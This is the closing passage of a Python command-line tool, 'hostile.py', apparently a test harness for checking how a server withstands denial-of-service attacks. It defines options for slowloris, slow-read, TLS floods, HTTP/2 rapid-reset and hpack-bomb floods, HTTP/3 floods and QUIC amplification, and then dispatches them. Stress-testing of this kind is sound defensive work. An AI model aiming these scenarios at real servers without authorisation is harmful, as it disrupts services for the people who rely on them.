                        help="after a flood, seconds to wait for the server to end connections")
    common.add_argument("--path", help="request target (/?s=1; slow-read /?s=10m)")
    common.add_argument("--ready", metavar="FILE", help="created once the attack is in place")
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="scenario", required=True)
    s = sub.add_parser("idle", parents=[common], help="idle keep-alive connections")
    s.add_argument("-n", type=int, default=1000, help="connections (default 1000)")
    s.add_argument("--h2", action="store_true",
                   help="HTTP/2 (h2c, or ALPN h2 with --tls): preface, SETTINGS, one request")
    s = sub.add_parser("slowloris", parents=[common], help="request heads trickled")
    s.add_argument("-n", type=int, default=1000, help="connections (default 1000)")
    s.add_argument("--interval", type=float, default=1.0, help="seconds between bytes (1)")
    s = sub.add_parser("slow-read", parents=[common], help="large bodies never read")
    s.add_argument("-n", type=int, default=500, help="connections (default 500)")
    s.add_argument("--rcvbuf", type=int, default=4096, help="SO_RCVBUF, bytes (4096)")
    s.add_argument("--drain-wait", type=float, default=5.0,
                   help="at the end, a connection silent this long counts as still open (5)")
    s = sub.add_parser("tls-flood", parents=[common], help="TLS handshakes, closed at once")
    s.add_argument("-n", type=int, default=0, help="handshakes at most (0: until --duration)")
    s = sub.add_parser("h2", parents=[common], help="HTTP/2 floods (raw frames)")
    s.add_argument("kind", choices=H2_KINDS)
    s.add_argument("-n", type=int, default=100_000,
                   help="frames per connection (streams for rapid-reset, hpack-bomb, abandon)")
    s.add_argument("-c", "--conns", type=int, default=1, help="connections (1)")
    s = sub.add_parser("h3", parents=[common], help="HTTP/3 floods (aioquic)")
    s.add_argument("kind", choices=H3_KINDS)
    s.add_argument("-n", type=int, default=1000,
                   help="streams per connection (streams), instructions (qpack), connections "
                        "(conns), Initials (initial-flood)")
    s.add_argument("-c", "--conns", type=int, default=1,
                   help="connections (streams, qpack)")
    s.add_argument("--addrs", type=int, default=64,
                   help="initial-flood: source addresses 127.0.0.2 on (64)")
    s.add_argument("--ports", type=int, default=16,
                   help="initial-flood: source ports per address (16)")
    sub.add_parser("amplification", parents=[common],
                   help="one Initial, never acknowledged: bytes sent back")
    a = p.parse_args(argv)
    # Per-scenario defaults here: set_defaults on one subparser would change the shared options.
    if a.path is None:
        a.path = "/?s=10m" if a.scenario == "slow-read" else "/?s=1"
    if a.parallel is None:
        a.parallel = 64 if a.scenario == "tls-flood" else 200
    if a.scenario == "tls-flood":
        a.tls = True
    if a.scenario == "h2" and a.kind == "abandon" and "-n" not in argv:
        a.n = 10_000
    return a


def main(argv):
    args = parse_args(argv)
    run = {"idle": idle, "slowloris": slowloris, "slow-read": slow_read, "tls-flood": tls_flood,
           "h2": h2, "h3": h3}.get(args.scenario)
    if args.scenario in ("h3", "amplification"):
        try:
            import aioquic  # noqa: F401
        except ImportError:
            raise SystemExit("hostile.py: this scenario needs aioquic (pip install aioquic)")
    t0 = time.time()
    result = amplification(args) if run is None else asyncio.run(run(args))
    result["started_unix_s"] = round(t0, 3)
    result["wall_s"] = round(time.time() - t0, 3)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
